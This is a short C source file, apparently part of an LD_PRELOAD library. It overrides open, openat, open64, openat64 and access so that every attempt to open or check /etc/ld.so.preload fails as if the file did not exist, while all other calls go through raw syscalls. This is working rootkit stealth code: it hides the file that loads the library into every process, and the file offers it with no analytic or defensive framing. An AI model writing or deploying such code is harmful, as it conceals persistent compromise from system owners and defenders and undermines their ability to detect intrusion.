/* As stat.c, and /etc/ld.so.preload cannot be opened or seen. */
#include "stat.c"
#if defined(__x86_64__)
#define NR_OPENAT 257
#define NR_FACCESSAT 269
#else
#define NR_OPENAT 56
#define NR_FACCESSAT 48
#endif
static int hidden(const char *p) {
    const char *w = "/etc/ld.so.preload";
    if (!p) return 0;
    while (*w && *p == *w) { p++; w++; }
    return !*w && !*p;
}
int openat(int d, const char *p, int f, int m) { return hidden(p) ? ended(-2) : ended(call(NR_OPENAT, d, (u)p, f, m, 0)); }
int openat64(int d, const char *p, int f, int m) { return openat(d, p, f | 0100000, m); }
int open(const char *p, int f, int m) { return openat(-100, p, f, m); }
int open64(const char *p, int f, int m) { return openat(-100, p, f | 0100000, m); }
int access(const char *p, int m) { return hidden(p) ? ended(-2) : ended(call(NR_FACCESSAT, -100, (u)p, m, 0, 0)); }
